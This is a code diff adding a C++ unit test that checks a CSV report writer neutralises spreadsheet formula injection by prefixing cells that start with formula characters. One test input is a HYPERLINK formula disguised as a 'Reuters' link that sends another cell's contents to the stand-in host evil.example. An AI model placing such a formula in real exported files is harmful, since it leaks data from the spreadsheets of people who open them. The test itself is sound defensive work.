@@ -325,5 +325,51 @@ TEST(CsvReportTest, AttributionRowsNameTheCitedSource) {
   EXPECT_EQ(records[2][15], "");
 }
 
+// Reliability probe, defect 1: a source, id or sentence starting with = + - @ (or tab/CR) went
+// into the CSV as is, and a spreadsheet ran it as a formula (a HYPERLINK showing "Reuters" that
+// sends another cell away). Such cells now start with an apostrophe (OWASP); so does a cell that
+// already started with one, so that removing one leading apostrophe gives the value back.
+TEST(CsvReportTest, Issue19FormulaInjectionIsNeutralised) {
+  const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&N2,\"Reuters\")";
+  struct Case {
+    std::string value;
+    std::string cell;  // as a spreadsheet reads it after RFC 4180 unquoting
+  };
+  const Case cases[] = {
+      {hyperlink, "'" + hyperlink},    {"+1 555", "'+1 555"},  {"-2+3", "'-2+3"},
+      {"@SUM(A1:A9)", "'@SUM(A1:A9)"}, {"\t=1", "'\t=1"},      {"\r=1", "'\r=1"},
+      {"'quoted", "''quoted"},         {"Reuters", "Reuters"}, {"a=b", "a=b"},
+  };
+  for (const Case& c : cases) {
+    ReportModel model;
+    ReportArticle article;
+    article.id = c.value;
+    article.source = c.value;
+    article.text = c.value + " may fall.";
+    ReportSentence sentence{0, Span{0, article.text.size()}, 0, false, {}, ""};
+    ReportMark mark;
+    mark.category = "hedge";
+    mark.span = Span{c.value.size() + 1, c.value.size() + 4};
+    mark.cue = "may";
+    mark.source = Span{0, c.value.size()};
+    sentence.marks = {mark};
+    article.sentences = {sentence};
+    model.articles = {article};
+    const auto records = ParseCsv(RenderMarksCsv(model));
+    ASSERT_EQ(records.size(), 2u) << c.value;
+    EXPECT_EQ(records[1][0], c.cell) << "article_id of " << c.value;
+    EXPECT_EQ(records[1][1], c.cell) << "source of " << c.value;
+    EXPECT_EQ(records[1][13], c.cell + " may fall.") << "sentence_text of " << c.value;
+    EXPECT_EQ(records[1][14], c.cell) << "cited_source of " << c.value;
+    // No cell of the file, header included, starts with a formula character.
+    for (const auto& record : records) {
+      for (const std::string& cell : record) {
+        ASSERT_TRUE(cell.empty() || std::string("=+-@\t\r").find(cell[0]) == std::string::npos)
+            << cell;
+      }
+    }
+  }
+}
+
 }  // namespace
 }  // namespace parallax
